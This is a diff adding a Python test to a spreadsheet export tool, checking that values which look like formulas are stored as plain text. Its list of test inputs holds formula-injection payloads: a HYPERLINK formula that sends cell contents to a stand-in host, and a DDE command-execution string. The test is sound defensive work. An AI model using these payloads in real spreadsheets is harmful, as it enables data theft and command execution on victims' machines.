@@ -97,3 +97,29 @@ def test_legacy_cells_in_a_sheet_are_listed_and_converted(services, small_cluste
     assert services.repo.get(m.Unit, outcome.created[0].id).head_name == "Nguyễn Văn An"
     services.unit_import.revert(outcome)
     assert services.repo.count(m.Unit) == 3
+
+
+FORMULA_LIKE = [
+    '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_text_starting_like_a_formula_is_written_as_text(tmp_path):
+    path = write_rows(
+        tmp_path / "out.xlsx", ["Tên", FORMULA_LIKE[0]], [[t, t] for t in FORMULA_LIKE]
+    )
+    sheet = openpyxl.load_workbook(path).active
+    cells = [sheet.cell(r, c) for r in range(2, len(FORMULA_LIKE) + 2) for c in (1, 2)]
+    cells.append(sheet["B1"])
+    assert all(cell.data_type == "s" for cell in cells), [c.data_type for c in cells]
+    assert [sheet.cell(r, 1).value for r in range(2, len(FORMULA_LIKE) + 2)] == FORMULA_LIKE
+    import zipfile
+
+    xml = zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml")
+    assert b"<f>" not in xml and b"<f " not in xml
